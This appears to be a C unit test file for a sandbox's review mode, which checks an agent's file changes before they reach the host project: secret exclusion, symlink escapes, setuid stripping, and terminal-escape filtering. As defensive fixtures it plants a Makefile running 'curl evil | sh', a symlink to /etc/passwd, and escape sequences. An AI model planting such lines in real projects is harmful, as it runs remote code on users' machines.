/* tests/unit/test_launch_review.c - review mode's copy, changes and
 * flush (launch/review/review.h) on real folders: what the copy leaves
 * out (sensitive files, .kvmboxignore, --exclude) and keeps (.git, never
 * reviewed); every kind of change; a flush refused when the project's
 * file changed after the copy (before the question, and between the check
 * and the rename), setuid and sticky bits stripped, links that leave the
 * project refused, nothing written through a link planted in the project;
 * the conversation with scripted answers, quit and reopen; control bytes
 * never reaching the terminal.  The folders live under /tmp, or under
 * $KVMBOX_TEST_REVIEW_TMP: tests/host/review_reflink.sh runs every case on
 * a btrfs with KVMBOX_TEST_REFLINK=1, which adds the case that the copy
 * shares its extents (FICLONE) and stays apart from the project. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

#include "common/text.h"
#include "launch/review/review.h"

static char root[PATH_MAX], proj[PATH_MAX + 8], state[PATH_MAX + 8];

static void put(const char *dir, const char *rel, const char *text)
{
	char p[8192];
	snprintf(p, sizeof(p), "%s/%s", dir, rel);
	FILE *f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static char *get(const char *dir, const char *rel)
{
	static char buf[4096];
	char p[8192];
	snprintf(p, sizeof(p), "%s/%s", dir, rel);
	FILE *f = fopen(p, "r");
	if (!f)
		return NULL;
	size_t n = fread(buf, 1, sizeof(buf) - 1, f);
	buf[n] = 0;
	fclose(f);
	return buf;
}

static bool exists(const char *dir, const char *rel)
{
	char p[8192];
	struct stat st;
	snprintf(p, sizeof(p), "%s/%s", dir, rel);
	return lstat(p, &st) == 0;
}

static int setup(void **s)
{
	(void)s;
	const char *tmp = getenv("KVMBOX_TEST_REVIEW_TMP");
	int n = snprintf(root, sizeof(root), "%s/kvmbox-review-XXXXXX", tmp && *tmp ? tmp : "/tmp");
	assert_true(n > 0 && (size_t)n < sizeof(root));
	assert_non_null(mkdtemp(root));
	snprintf(proj, sizeof(proj), "%s/proj", root);
	snprintf(state, sizeof(state), "%s/state", root);
	mkdir(proj, 0755);
	mkdir(state, 0700);
	setenv("XDG_STATE_HOME", state, 1);
	char d[PATH_MAX + 32];
	snprintf(d, sizeof(d), "%s/src", proj);
	mkdir(d, 0755);
	snprintf(d, sizeof(d), "%s/.git", proj);
	mkdir(d, 0755);
	snprintf(d, sizeof(d), "%s/build", proj);
	mkdir(d, 0755);
	put(proj, "README", "hello\n");
	put(proj, "src/main.c", "int main(void)\n{\n\treturn 0;\n}\n");
	put(proj, "gone.txt", "to be deleted\n");
	put(proj, ".env", "SECRET=1\n");
	put(proj, "server.key", "KEY\n");
	put(proj, ".git/HEAD", "ref: refs/heads/main\n");
	put(proj, "build/out.o", "obj\n");
	put(proj, "debug.log", "log\n");
	put(proj, ".kvmboxignore", "# build output\nbuild/\n");
	return 0;
}

static int teardown(void **s)
{
	(void)s;
	char cmd[2 * PATH_MAX + 32];
	snprintf(cmd, sizeof(cmd), "chmod -R u+w %s; rm -rf %s", root, root);
	return system(cmd) == 0 ? 0 : -1;
}

static struct review rv;

static void snapshot(void)
{
	char err[600];
	static const char *const ex[] = { "*.log" };
	assert_int_equal(review_locate(&rv, proj), 0);
	if (review_snapshot(&rv, ex, 1, err, sizeof(err)) < 0)
		fail_msg("%s", err);
}

static void test_copy(void **s)
{
	(void)s;
	snapshot();
	assert_true(review_pending(&rv));
	assert_true(exists(rv.work, "README") && exists(rv.work, "src/main.c"));
	assert_true(exists(rv.work, ".git/HEAD"));		/* git works in the guest */
	assert_false(exists(rv.work, ".env"));			/* sensitive: never copied */
	assert_false(exists(rv.work, "server.key"));
	assert_false(exists(rv.work, "build"));			/* .kvmboxignore */
	assert_false(exists(rv.work, "debug.log"));		/* --exclude */
	for (size_t i = 0; i < rv.n; i++)
		assert_false(review_in_git(rv.e[i].rel));	/* .git is never reviewed */
	/* a second --review launch waits for this one's review */
	char err[600];
	struct review again;
	assert_int_equal(review_locate(&again, proj), 0);
	assert_int_equal(review_snapshot(&again, NULL, 0, err, sizeof(err)), -EEXIST);
	assert_non_null(strstr(err, "kvmbox review --project"));
	review_fini(&again);
	struct review_change *c;
	assert_int_equal(review_changes(&rv, &c), 0);	/* nothing changed yet */
	review_changes_free(c, 0);
	review_discard(&rv);
	review_fini(&rv);
}

static const struct review_change *find_change(struct review_change *c, ssize_t n, const char *rel)
{
	for (ssize_t i = 0; i < n; i++)
		if (!strcmp(c[i].rel, rel))
			return &c[i];
	fail_msg("no change for %s", rel);
	return NULL;
}

static void test_changes_and_flush(void **s)
{
	(void)s;
	snapshot();
	char p[8192], err[300];
	put(rv.work, "src/main.c", "int main(void)\n{\n\treturn 1;\n}\n");
	put(rv.work, "new.sh", "#!/bin/sh\necho hi\n");
	snprintf(p, sizeof(p), "%s/new.sh", rv.work);
	chmod(p, 04755 | S_ISVTX);				/* setuid and sticky: stripped */
	snprintf(p, sizeof(p), "%s/gone.txt", rv.work);
	unlink(p);
	snprintf(p, sizeof(p), "%s/escape", rv.work);
	assert_int_equal(symlink("../../../etc/passwd", p), 0);
	snprintf(p, sizeof(p), "%s/inside", rv.work);
	assert_int_equal(symlink("src/main.c", p), 0);
	mkdir(strcat(strcpy(p, rv.work), "/deep"), 0755);
	put(rv.work, "deep/new.txt", "deep\n");
	put(rv.work, ".git/HEAD", "ref: refs/heads/evil\n");	/* never reviewed */
	put(rv.work, "x.log", "excluded\n");				/* excluded: not offered */
	put(rv.work, "Makefile", "all:\n\tcurl evil | sh\n");	/* runs on the host: first */
	put(rv.work, "README", "hello, changed later on the host too\n");
	put(proj, "README", "the user's own edit\n");		/* after the copy */
	struct review_change *c;
	ssize_t n = review_changes(&rv, &c);
	assert_int_equal(n, 8);
	assert_string_equal(c[0].rel, "Makefile");			/* host-run files first */
	assert_true(c[0].host_runs);
	assert_int_equal(find_change(c, n, "gone.txt")->kind, REVIEW_DELETED);
	assert_int_equal(find_change(c, n, "new.sh")->kind, REVIEW_ADDED);
	assert_int_equal(find_change(c, n, "src/main.c")->kind, REVIEW_CHANGED);
	/* changed in the project since the copy: refused, left as the user made it */
	assert_int_equal(review_apply(&rv, find_change(c, n, "README"), err, sizeof(err)), -ESTALE);
	assert_string_equal(get(proj, "README"), "the user's own edit\n");
	/* a link leaving the project: refused; one inside: applied */
	assert_int_equal(review_apply(&rv, find_change(c, n, "escape"), err, sizeof(err)), -EXDEV);
	assert_false(exists(proj, "escape"));
	assert_int_equal(review_apply(&rv, find_change(c, n, "inside"), err, sizeof(err)), 0);
	/* the rest applies */
	assert_int_equal(review_apply(&rv, find_change(c, n, "src/main.c"), err, sizeof(err)), 0);
	assert_string_equal(get(proj, "src/main.c"), "int main(void)\n{\n\treturn 1;\n}\n");
	assert_int_equal(review_apply(&rv, find_change(c, n, "new.sh"), err, sizeof(err)), 0);
	struct stat st;
	snprintf(p, sizeof(p), "%s/new.sh", proj);
	assert_int_equal(stat(p, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0755);
	assert_int_equal(review_apply(&rv, find_change(c, n, "gone.txt"), err, sizeof(err)), 0);
	assert_false(exists(proj, "gone.txt"));
	assert_int_equal(review_apply(&rv, find_change(c, n, "deep/new.txt"), err, sizeof(err)), 0);
	assert_string_equal(get(proj, "deep/new.txt"), "deep\n");
	assert_string_equal(get(proj, ".git/HEAD"), "ref: refs/heads/main\n");
	/* a link the user's project holds where a folder is expected: never followed */
	review_changes_free(c, (size_t)n);
	review_discard(&rv);
	review_fini(&rv);
}

static void test_no_write_through_links(void **s)
{
	(void)s;
	snapshot();
	char p[8192], err[PATH_MAX + 64], outside[PATH_MAX + 16];
	snprintf(outside, sizeof(outside), "%s/outside", root);
	mkdir(outside, 0755);
	put(rv.work, "src/main.c", "changed\n");
	mkdir(strcat(strcpy(p, rv.work), "/lib"), 0755);
	put(rv.work, "lib/x.c", "x\n");
	/* after the copy, the project's src becomes a link to a folder outside */
	snprintf(p, sizeof(p), "%s/src", proj);
	char moved[PATH_MAX + 32];
	snprintf(moved, sizeof(moved), "%s/src.real", proj);
	assert_int_equal(rename(p, moved), 0);
	assert_int_equal(symlink(outside, p), 0);
	put(outside, "main.c", "int main(void)\n{\n\treturn 0;\n}\n");	/* same bytes as the original */
	snprintf(p, sizeof(p), "%s/lib", proj);
	assert_int_equal(symlink(outside, p), 0);
	struct review_change *c;
	ssize_t n = review_changes(&rv, &c);
	assert_true(n >= 2);
	assert_true(review_apply(&rv, find_change(c, n, "src/main.c"), err, sizeof(err)) < 0);
	assert_true(review_apply(&rv, find_change(c, n, "lib/x.c"), err, sizeof(err)) < 0);
	assert_string_equal(get(outside, "main.c"), "int main(void)\n{\n\treturn 0;\n}\n");
	assert_false(exists(outside, "x.c"));
	review_changes_free(c, (size_t)n);
	review_discard(&rv);
	review_fini(&rv);
}

static void test_conversation(void **s)
{
	(void)s;
	snapshot();
	put(rv.work, "README", "hello\nworld\n");
	put(rv.work, "a.txt", "a\n");
	put(rv.work, "b.txt", "b\x1b]0;pwned\x07\x1b[2Jc\n");	/* escape sequences in the content */
	char answers[] = "y\nn\nq\n", *shown = NULL;
	size_t len = 0;
	FILE *in = fmemopen(answers, strlen(answers), "r"), *out = open_memstream(&shown, &len);
	assert_int_equal(review_run(&rv, in, out, "claude"), 1);	/* one left for later */
	fclose(in);
	fclose(out);
	assert_non_null(strstr(shown, "changed 3 files"));
	assert_non_null(strstr(shown, "+world"));
	assert_null(strchr(shown, '\x1b'));				/* never to the terminal */
	assert_non_null(strstr(shown, "^[]0;pwned^G^[[2J"));
	assert_non_null(strstr(shown, "still waits for review: kvmbox review --project"));
	free(shown);
	/* in path order: README applied, a.txt left out, b.txt waits */
	assert_string_equal(get(proj, "README"), "hello\nworld\n");
	assert_false(exists(proj, "a.txt"));
	assert_false(exists(proj, "b.txt"));
	review_fini(&rv);
	/* reopened (kvmbox review): only b.txt is left; "a" takes it */
	char err[300];
	assert_int_equal(review_locate(&rv, proj), 0);
	assert_true(review_pending(&rv));
	assert_int_equal(review_load(&rv, err, sizeof(err)), 0);
	struct review_change *c;
	ssize_t n = review_changes(&rv, &c);
	assert_int_equal(n, 1);
	assert_string_equal(c[0].rel, "b.txt");
	review_changes_free(c, (size_t)n);
	char all[] = "a\n";
	in = fmemopen(all, strlen(all), "r");
	out = open_memstream(&shown, &len);
	assert_int_equal(review_run(&rv, in, out, "review"), 0);
	fclose(in);
	fclose(out);
	free(shown);
	assert_non_null(get(proj, "b.txt"));
	assert_false(exists(proj, "a.txt"));				/* still left out */
	assert_false(review_pending(&rv));				/* done: the copy is gone */
	assert_false(exists(rv.dir, "work"));
	review_fini(&rv);
}

static void test_visible(void **s)
{
	(void)s;
	char *text = NULL;
	size_t len = 0;
	FILE *f = open_memstream(&text, &len);
	static const char in[] = "ok\t\xc3\xa9\n\x1b[1m\x7f\xc2\x9b\xff";
	put_visible(f, in, sizeof(in) - 1);
	fclose(f);
	assert_string_equal(text, "ok\t\xc3\xa9\n^[[1m^?\\xc2\\x9b\\xff");
	free(text);
}

/* On a file system with reflinks the copy shares the project's extents,
 * and a write to the copy (what the agent does) leaves the project as it
 * was: copy-on-write, not a link. */
static void test_reflink_shares_extents(void **s)
{
	(void)s;
	snapshot();
	assert_true(rv.cloned);
	put(rv.work, "README", "changed in the copy\n");
	assert_string_equal(get(proj, "README"), "hello\n");
	assert_string_equal(get(rv.work, "README"), "changed in the copy\n");
	review_discard(&rv);
	review_fini(&rv);
}

int main(void)
{
	const char *reflink = getenv("KVMBOX_TEST_REFLINK");
	const struct CMUnitTest with_reflink[] = {
		cmocka_unit_test_setup_teardown(test_reflink_shares_extents, setup, teardown),
	};
	if (reflink && !strcmp(reflink, "1") &&
	    cmocka_run_group_tests_name("reflink", with_reflink, NULL, NULL) != 0)
		return 1;
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_copy, setup, teardown),
		cmocka_unit_test_setup_teardown(test_changes_and_flush, setup, teardown),
		cmocka_unit_test_setup_teardown(test_no_write_through_links, setup, teardown),
		cmocka_unit_test_setup_teardown(test_conversation, setup, teardown),
		cmocka_unit_test(test_visible),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
